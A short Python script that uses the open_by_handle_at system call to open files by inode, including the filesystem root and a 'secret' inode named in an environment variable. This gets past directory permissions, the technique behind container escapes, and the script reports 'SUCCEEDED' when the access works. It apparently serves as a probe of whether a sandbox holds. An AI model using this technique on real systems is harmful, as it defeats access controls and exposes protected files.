# Opens a file by its handle, past every folder above it.
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
mount = os.open(".", os.O_RDONLY)
for inode in [2, int(os.environ["SECRET_INODE"])]:
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", inode, 0)
    fd = libc.open_by_handle_at(mount, ctypes.create_string_buffer(handle, 64), os.O_RDONLY)
    if fd >= 0:
        print("SUCCEEDED")
print("tried")
